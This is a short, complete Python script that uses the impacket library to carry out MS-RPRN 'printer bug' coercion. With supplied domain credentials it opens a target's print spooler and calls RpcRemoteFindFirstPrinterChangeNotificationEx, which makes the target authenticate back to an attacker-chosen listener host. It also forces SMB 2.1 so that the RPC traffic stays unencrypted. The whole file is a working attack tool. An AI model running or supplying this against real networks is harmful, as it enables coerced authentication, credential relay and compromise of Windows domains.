#!/usr/bin/python3
"""MS-RPRN coercion ("printer bug") with impacket: ask TARGET's print spooler to open a
notification channel back to LISTENER (RpcRemoteFindFirstPrinterChangeNotificationEx).

usage: coerce_rprn.py DOMAIN USER PASSWORD TARGET_NAME TARGET_IP LISTENER
"""
import sys
from impacket.dcerpc.v5 import transport, rprn
from impacket.smb3structs import SMB2_DIALECT_21

dom, user, pw, tname, tip, listener = sys.argv[1:7]
t = transport.DCERPCTransportFactory(r'ncacn_np:%s[\pipe\spoolss]' % tname)
t.set_credentials(user, pw, dom)
t.setRemoteHost(tip)
t.preferred_dialect(SMB2_DIALECT_21)   # SMB 2.1: no SMB3 encryption, so the RPC stays visible
dce = t.get_dce_rpc()
dce.connect()
dce.bind(rprn.MSRPC_UUID_RPRN)
h = rprn.hRpcOpenPrinter(dce, '\\\\%s\x00' % tname)['pHandle']
print('RpcOpenPrinter ok')
try:
    rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx(dce, h, rprn.PRINTER_CHANGE_ADD_JOB,
                                                        pszLocalMachine='\\\\%s\x00' % listener)
    print('RpcRemoteFindFirstPrinterChangeNotificationEx returned OK')
except Exception as e:
    print('RpcRemoteFindFirstPrinterChangeNotificationEx: %s' % e)
dce.disconnect()
